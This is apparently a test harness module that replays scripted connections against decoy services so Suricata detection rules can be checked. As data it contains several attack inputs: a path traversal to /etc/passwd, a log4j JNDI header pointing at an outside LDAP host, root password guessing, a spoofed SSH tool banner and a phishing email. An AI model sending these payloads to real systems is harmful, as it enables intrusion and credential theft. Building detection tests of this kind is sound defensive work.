"""What is played: real clients, each connection from a source port of its own.

So it is known of every connection who made it, without a look into packets or events. The
signatures are those of fixtures/rules/peeltap.rules.
"""

from __future__ import annotations

import subprocess
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from diversion.namespaces import NamespaceError
from diversion.proxy.addresses import show_ends
from pipeline.demo.network import OUTSIDE, SERVICES, Ends, Network
from pipeline.demo.programs import SITE

TRAVERSAL, JNDI, SSH_TOOL, VRFY, SNI, LOGINS = range(1000001, 1000007)
"""Signatures, in the rules' order."""

GUESSES: Final = 5
"""As many logins from one address as the rule wants."""

CLIENT_SECONDS: Final = 60

_DECOYS: Final = {service.name: service.decoy for service in SERVICES}


@dataclass(frozen=True)
class Step:
    """One connection: who makes it, how, and which of Suricata's events must tell of it.

    `expected` is a signature's number, or the type of an event where nothing of it is an attack.
    `ok` are the exit codes of a client that did its part.
    """

    what: str
    who: str
    port: int
    target: Ends
    argv: tuple[str, ...]
    expected: int | str
    stdin: bytes = b""
    ok: tuple[int, ...] = (0,)

    @property
    def source(self) -> Ends:
        """The address and port that it comes from."""
        return OUTSIDE[self.who], self.port


def _curl(
    what: str,
    who: str,
    port: int,
    service: str,
    path: str,
    expected: int | str,
    *options: str,
) -> Step:
    target = _DECOYS[service]
    scheme = "https" if service == "https" else "http"
    argv = ["curl", "--silent", "--show-error", "--insecure", "--path-as-is", "--globoff"]
    argv += ["--max-time", "15", "--interface", OUTSIDE[who], "--local-port", str(port)]
    argv += ["--connect-to", f"{SITE}:{target[1]}:{show_ends(target)}", *options]
    argv += ["--output", "/dev/null", f"{scheme}://{SITE}:{target[1]}{path}"]
    return Step(what, who, port, target, tuple(argv), expected)


def _traversal(who: str, port: int, service: str) -> Step:
    path = "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"
    return _curl("HTTP path traversal", who, port, service, path, TRAVERSAL)


def _jndi(who: str, port: int, service: str) -> Step:
    header = "X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}"
    return _curl("log4j in a header", who, port, service, "/", JNDI, "--header", header)


def _guess(who: str, port: int, service: str, password: str) -> Step:
    data = ("--data", f"user=root&password={password}")
    return _curl("password guessing", who, port, service, "/login", LOGINS, *data)


def _ssh(who: str, port: int) -> Step:
    """OpenSSH's client, which is refused after the key exchange."""
    source, target = OUTSIDE[who], _DECOYS["ssh"]
    argv = ["ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no"]
    argv += ["-o", "UserKnownHostsFile=/dev/null", "-o", "IdentityFile=/dev/null"]
    argv += ["-o", f"ProxyCommand=nc -s {source} -p {port} %h %p", f"root@{target[0]}", "id"]
    return Step("SSH login attempt", who, port, target, tuple(argv), "ssh", ok=(255,))


def _ssh_tool(who: str, port: int) -> Step:
    """A tool that waits for the server's banner, shows its own, and hangs up: bash around nc."""
    source, target = OUTSIDE[who], _DECOYS["ssh"]
    script = (
        f"coproc nc -N -w 5 -s {source} -p {port} {target[0]} {target[1]}; "
        'read -r -u "${COPROC[0]}"; exec {write}>&"${COPROC[1]}" {read}<&"${COPROC[0]}"; '
        'printf "SSH-2.0-Go\\r\\n" >&"$write"; eval "exec ${COPROC[1]}>&-"; exec {write}>&-; '
        'cat <&"$read" >/dev/null; wait'
    )
    return Step("SSH attack tool", who, port, target, ("bash", "-c", script), SSH_TOOL)


def _smtp(what: str, who: str, port: int, expected: int | str, *options: str) -> Step:
    target = _DECOYS["smtp"]
    argv = ["curl", "--silent", "--show-error", "--max-time", "15", "--output", "/dev/null"]
    argv += ["--interface", OUTSIDE[who], "--local-port", str(port), *options]
    argv += [f"smtp://{show_ends(target)}/scanner.example"]
    text = b"From: ceo@scanner.example\r\nSubject: Invoice\r\n\r\nPlease pay today.\r\n"
    return Step(what, who, port, target, tuple(argv), expected, stdin=text)


def _vrfy(who: str, port: int) -> Step:
    # aiosmtpd answers 252, which curl takes for a success.
    return _smtp("SMTP user probe", who, port, VRFY, "--mail-rcpt", "root")


def _mail(who: str, port: int) -> Step:
    options = ("--upload-file", "-", "--mail-from", "ceo@scanner.example")
    return _smtp("phishing mail", who, port, "smtp", *options, "--mail-rcpt", f"staff@{SITE}")


STEPS: Final = (
    _curl("ordinary visit", "visitor", 46001, "http", "/", "http"),
    _traversal("scanner", 46101, "http"),
    _ssh("guesser", 46201),
    _jndi("scanner", 46102, "http"),
    _traversal("robot", 46301, "http6"),
    _ssh_tool("guesser", 46202),
    _curl("TLS, internal name", "scanner", 46103, "https", "/", SNI),
    _guess("robot", 46302, "http6", "123456"),
    _guess("robot", 46303, "http6", "password"),
    _vrfy("guesser", 46203),
    _guess("robot", 46304, "http6", "letmein"),
    _guess("robot", 46305, "http6", "qwerty"),
    _mail("guesser", 46204),
    _guess("robot", 46306, "http6", "changeme"),
    _curl("ordinary visit", "visitor", 46002, "http", "/", "http"),
)
"""The play. Who attacks takes turns, as it does on a real network."""


def play(network: Network, seconds: float, tell: Callable[[Step], None]) -> None:
    """Play all steps, spread over `seconds`; `tell` hears of each when it begins.

    Raises NamespaceError where a client did not do its part.
    """
    began = time.monotonic()
    for number, step in enumerate(STEPS):
        time.sleep(max(0.0, began + seconds * number / len(STEPS) - time.monotonic()))
        tell(step)
        space = network.spaces[step.who]
        try:
            done = subprocess.run(
                space.command(step.argv, plain=False),
                input=step.stdin,
                capture_output=True,
                timeout=CLIENT_SECONDS,
                cwd=space.directory,
                check=False,
                start_new_session=True,
            )
        except subprocess.TimeoutExpired:
            raise NamespaceError(f"{step.what}: {step.argv[0]} did not end") from None
        if done.returncode not in step.ok:
            said = done.stderr.decode(errors="replace").strip()
            raise NamespaceError(
                f"{step.what}: {step.argv[0]} ended with {done.returncode}: {said}"
            )
